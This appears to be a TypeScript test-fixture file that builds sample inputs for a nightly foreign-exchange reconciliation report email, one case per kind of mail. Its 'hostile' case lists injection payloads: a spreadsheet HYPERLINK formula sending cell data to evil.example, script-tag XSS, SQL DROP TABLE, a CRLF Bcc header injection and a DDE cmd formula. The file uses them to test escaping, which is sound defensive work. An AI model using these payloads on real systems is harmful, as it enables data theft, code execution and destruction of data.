/**
 * Realistic inputs of a night's report, one per kind of mail: for the golden mails and for the
 * pictures in docs (render-mail.ts). Data only; figures add up as real ones would.
 */
import type { NightReportInput } from '../../lib/report/night-report.ts'
import { cutInput, missingInput, targetDiffersInput } from './night-sample-failures.ts'
import { ledgerInput } from './night-sample-ledger.ts'
import { hundredThousandInput, personalInput, revisedInput, thirtyNightsInput } from './night-sample-many.ts'
import { bankInput, comparison, correctionInput, fxInput, mismatch, oneSided } from './night-sample-parts.ts'

const NIGHTS: Readonly<Record<string, () => NightReportInput>> = {
  'one-break': () =>
    fxInput({ comparisons: [{ result: comparison([mismatch('USD', '1.0923', '1.0932')]), history: null }] }),

  breaks: ledgerInput,

  'many-breaks': () => {
    const breaks = Array.from({ length: 311 }, (_, index) => {
      const currency = `${String.fromCharCode(65 + Math.floor(index / 26))}${String.fromCharCode(65 + (index % 26))}X`
      return index % 7 === 0
        ? oneSided(currency, `${100 + index}.5`)
        : mismatch(currency, `${index}.25`, `${index * 10}.25`, 'ratio 10')
    })
    const resolved = [
      {
        kind: 'value_mismatch' as const,
        key: { currency: 'GBP', rateDate: '2026-11-18' },
        firstSeen: '2026-11-18',
        cause: 'target moved',
      },
      {
        kind: 'missing_in_target' as const,
        key: { currency: 'NOK', rateDate: '2026-11-17' },
        firstSeen: '2026-11-17',
        cause: 'both',
      },
    ]
    const open = new Map(
      breaks.slice(40, 90).map(({ identity }, index) => [
        identity,
        {
          state: index === 49 ? ('acknowledged' as const) : ('persisting' as const),
          firstSeen: '2026-11-04',
          businessDays: 12,
          owner: 'treasury',
        },
      ]),
    )
    return fxInput({ comparisons: [{ result: comparison(breaks), history: { open, resolved } }] })
  },

  'breaks-100000': () => hundredThousandInput(),

  'thirty-nights': thirtyNightsInput,

  revised: revisedInput,

  personal: personalInput,

  clean: () => fxInput({ comparisons: [{ result: comparison([]), history: null }] }),

  duplicate: () => {
    const input = fxInput({
      comparisons: [],
      state: 'nothing-to-do',
      load: null,
      revision: null,
      comparison: null,
    })
    const [file] = input.files
    return {
      ...input,
      attempt: 2,
      trigger: 'manual',
      files: [
        {
          ...file!,
          verdict: 'duplicate',
          note: 'same content as eurofxref-hist-2026-11-20.xml, loaded as revision 1',
        },
      ],
    }
  },

  inconclusive: () => {
    const result = comparison([])
    return fxInput({
      comparisons: [
        {
          history: null,
          result: {
            ...result,
            outcome: 'INCONCLUSIVE',
            right: { ...result.right, rows: 0 },
            proof: result.proof.map(line => ({
              ...line,
              ...{ right: '0', difference: `-${line.left}` },
              explained: { missing_in_target: `-${line.left}` },
            })),
            gates: [
              {
                name: 'row count of treasury.fx_rate',
                state: 'failed',
                message:
                  'treasury.fx_rate has 0 rows for this date; between 10,600 and 10,700 were expected from the last 20 runs',
              },
              { name: 'file hash', state: 'warned', message: 'the ECB CSV is the same file as yesterday' },
              ...result.gates.filter(({ name }) => !name.startsWith('row count')),
            ],
          },
        },
      ],
    })
  },

  failed: cutInput,

  'file-missing': missingInput,

  'target-differs': targetDiffersInput,

  rejects: () => {
    const input = fxInput({ comparisons: [{ result: comparison([]), history: null }] })
    const rejects = Array.from({ length: 27 }, (_, index) => ({
      file: 0,
      line: 40 + index * 3,
      step: 'map' as const,
      raw: `<Cube currency="X${index}" rate="n/a"/>`,
      unit: null,
      issues: [
        {
          code: index % 9 === 0 ? 'MAP_TEXT_TOO_LONG' : 'MAP_NOT_A_DECIMAL',
          message:
            index % 9 === 0
              ? 'currency has 4 characters, at most 3 are allowed'
              : 'rate is "n/a"; a decimal with a point was expected',
          column: index % 9 === 0 ? '@currency' : '@rate',
          field: index % 9 === 0 ? 'currency' : 'rate',
          value: index % 9 === 0 ? 'EURO' : 'n/a',
        },
      ],
    }))
    return {
      ...input,
      load: {
        ...input.load!,
        counts: { read: 10_686, mapped: 10_659, rejected: 27, filtered: 0 },
      },
      rejects,
      rejectsByCode: [
        { code: 'MAP_NOT_A_DECIMAL', count: 24 },
        { code: 'MAP_TEXT_TOO_LONG', count: 3 },
      ],
      warnings: ['eurofxref-hist-2026-11-20.xml: unknown attribute @source, ignored'],
    }
  },

  'unit-does-not-tie': bankInput,

  correction: correctionInput,

  hostile: () => {
    const nasty = [
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      '<img src=x onerror=alert(1)>',
      "'; DROP TABLE rates; --",
      '\u202egnp.exe\u0007\r\nBcc: all@evil.example',
      '"><script>alert(1)</script>',
      "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    const input = fxInput({
      comparisons: [
        {
          history: null,
          result: comparison(
            nasty.map(text => ({
              ...mismatch(text, '1.5', '-2.5'),
              columns: [
                { name: 'rate', left: '1.5', right: '-2.5', nature: 'amount', delta: '-4' },
                { name: 'source', left: text, right: null, nature: 'null_vs_value', delta: null },
              ],
              hint: text,
            })),
          ),
        },
      ],
    })
    return {
      ...input,
      files: input.files.map(file => ({ ...file, name: `${nasty[1]}\r\nSubject: paid`, note: nasty[4]! })),
      warnings: nasty,
      rejects: nasty.map((value, index) => ({
        file: 0,
        line: index + 2,
        step: 'map' as const,
        raw: value,
        unit: null,
        issues: [
          { code: 'MAP_NOT_A_DECIMAL', message: `rate is ${value}`, column: '@rate', field: 'rate', value },
        ],
      })),
      rejectsByCode: [{ code: 'MAP_NOT_A_DECIMAL', count: nasty.length }],
      load: { ...input.load!, counts: { read: 10_665, mapped: 10_659, rejected: 6, filtered: 0 } },
    }
  },
}

/** Names of the samples. */
export const SAMPLE_NAMES = Object.keys(NIGHTS)

/** The input of a sample, made anew. */
export function nightSample(name: string): NightReportInput {
  return NIGHTS[name]!()
}
